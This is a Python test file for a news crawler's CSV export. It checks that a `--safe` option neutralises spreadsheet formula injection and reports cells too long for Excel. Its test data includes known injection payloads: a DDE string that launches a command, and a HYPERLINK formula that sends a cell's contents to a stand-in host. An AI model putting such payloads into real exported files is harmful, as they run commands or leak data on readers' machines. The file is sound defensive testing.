"""Cells of CSV: what a spreadsheet would run, and what it does not take whole."""

import csv
import io
import json
import unicodedata
from collections import Counter
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pytest

from newscrawl.cli.main import main
from newscrawl.crawl.feeds import CsvExporter
from newscrawl.export.about import About
from newscrawl.export.columns import COLUMNS
from newscrawl.export.csv_table import FORMULA, LONGEST, cell, inert, is_long, write_csv
from newscrawl.ledger.model import ExportedArticle
from tests.support.archives import make_archive

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
BEFORE = ("", " ", "  ", "\u3000", "\xa0", '"', "'", "''", '" ', "`", "\u200b", "\ufeff", "\t", "\r\n")
CALLS = ("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", '=HYPERLINK("https://evil.example/?"&A1)')
PLAIN = ("利率", "1=1", "a@b.example", "3-5", "", " ", '["=1"]', "#1", "'a", "《=》", "2026-03-01T08:00:00+08:00")


def fault(sent: str, did: str) -> pytest.MarkDecorator:
    return pytest.mark.fault("browse", "formulas in CSV", sent, did)


def undone(text: str) -> str:
    """As the documentation tells: where the rest would be a formula, the rest is the value."""
    return text[1:] if text.startswith("'") and FORMULA.match(text[1:]) else text


@pytest.mark.parametrize(
    "sign",
    [
        pytest.param(
            sign,
            id=unicodedata.name(sign).lower().replace(" ", "-"),
            marks=fault(
                f"cells that begin with `{sign}`, also behind blanks and quotes",
                "`--safe` puts an apostrophe before them",
            ),
        )
        for sign in SIGNS
    ],
)
def test_a_sign_is_inert(sign: str) -> None:
    for before in BEFORE:
        text = f"{before}{sign}1"
        assert inert(text) == f"'{text}"
        assert undone(inert(text)) == text


@pytest.mark.parametrize(
    "start",
    [
        pytest.param(
            start,
            id=name.split()[1],
            marks=fault(f"cells that begin with {name}", "`--safe` puts an apostrophe before them"),
        )
        for start, name in (("\t", "a tab"), ("\r", "a carriage return"), ("\n", "a line feed"))
    ],
)
def test_a_blank_that_hides_a_sign_is_inert(start: str) -> None:
    for text in (start, f"{start}=1", f"{start}文"):
        assert inert(text) == f"'{text}"
        assert undone(inert(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_cells_stay(text: str) -> None:
    assert inert(text) == text
    assert undone(text) == text


@pytest.mark.parametrize("value", ["=1", ["=1"], None, 3])
def test_cells_are_altered_only_when_asked_for(value: Any) -> None:
    plain = json.dumps(value) if isinstance(value, list) else value
    assert cell(value) == plain
    assert cell(value, safe=True) == ("'=1" if value == "=1" else plain)


@pytest.mark.parametrize(("length", "long"), [(LONGEST, False), (LONGEST + 1, True)])
def test_a_long_cell(length: int, *, long: bool) -> None:
    assert LONGEST == 32_767
    assert is_long("字" * length) is long
    assert is_long("😀" * (length // 2 + 1)) is True  # two units each, as Excel counts
    assert is_long("😀" * (LONGEST // 2)) is False
    assert is_long(length) is False


def table(*titles: str, safe: bool = False, counts: Counter[str] | None = None) -> bytes:
    values = {**dict.fromkeys(COLUMNS, ""), "byline": [], "images": []}
    kept = [
        ExportedArticle(str(n), "", 1, "", json.dumps({**values, "title": title})) for n, title in enumerate(titles)
    ]
    file = io.BytesIO()
    if safe or counts is not None:
        write_csv(iter(kept), file, About("", "", "UTC"), safe=safe, counts=counts)
    else:
        write_csv(iter(kept), file, About("", "", "UTC"))
    return file.getvalue()


@fault(
    "titles that are known attacks on spreadsheets",
    "with `--safe` no cell of the file begins as a formula, read by csv, pandas and DuckDB",
)
def test_the_whole_table(tmp_path: Path) -> None:
    (tmp_path / "safe.csv").write_bytes(table(*CALLS, *PLAIN, safe=True))
    data = (tmp_path / "safe.csv").read_bytes().decode()
    rows = [*csv.DictReader(io.StringIO(data, newline=""))]
    assert not [value for row in rows for value in row.values() if FORMULA.match(value) and not value.startswith("'")]
    assert [undone(row["title"]) for row in rows] == [*CALLS, *PLAIN]
    frame = pd.read_csv(tmp_path / "safe.csv", keep_default_na=False)
    assert [*map(undone, frame["title"])] == [*CALLS, *PLAIN]
    read = (
        duckdb.connect()
        .execute(f"SELECT title FROM read_csv('{tmp_path / 'safe.csv'}', header=true, all_varchar=true)")
        .fetchall()
    )
    assert [undone(title or "") for (title,) in read] == [*CALLS, *PLAIN]


@fault("the same titles without `--safe`", "the values as they are, for pandas and DuckDB")
def test_values_stay_by_default() -> None:
    rows = [*csv.DictReader(io.StringIO(table(*CALLS).decode(), newline=""))]
    assert [row["title"] for row in rows] == [*CALLS]


@fault(
    "a text of more than 32,767 characters in CSV",
    "a line on standard error counts the cells that Excel does not take whole",
)
def test_long_cells_are_counted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    counts: Counter[str] = Counter()
    table("字" * (LONGEST + 1), "字", counts=counts)
    assert counts == {"long_cells": 1}
    monkeypatch.setattr("newscrawl.export.csv_table.LONGEST", 40)
    archive = make_archive(tmp_path / "kept", articles=2)
    output = str(tmp_path / "a.csv")
    assert main(["export", str(archive), "-o", output]) == 0
    lines = capsys.readouterr().err.splitlines()
    assert lines[0].startswith("newscrawl: ")
    assert lines[0].endswith(
        " cells are longer than 32,767 characters, which Excel does not take whole; other programs do"
    )
    assert main(["export", str(archive), "-o", output, "-q", "--safe"]) == 0
    assert main(["export", str(archive), "-o", str(tmp_path / "a.jsonl")]) == 0
    assert "longer" not in capsys.readouterr().err


@fault("`--safe` with another format", "refused in one line (2)")
def test_safe_is_for_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = make_archive(tmp_path / "kept", articles=1)
    for form in ("jsonl", "rss", "parquet", "posts"):
        assert main(["export", str(archive), "--format", form, "-o", str(tmp_path / "x"), "--safe"]) == 2
        assert capsys.readouterr().err == "newscrawl: --safe is for --format csv\n"
    assert not (tmp_path / "x").exists()


@pytest.mark.parametrize("safe", [False, True])
def test_a_feed_of_scrapy_may_be_safe_too(*, safe: bool) -> None:
    file = io.BytesIO()
    exporter = CsvExporter(file, safe=safe)
    exporter.start_exporting()
    exporter.export_item({"title": "=1"})
    exporter.finish_exporting()
    assert file.getvalue() == (b"title\r\n'=1\r\n" if safe else b"title\r\n=1\r\n")
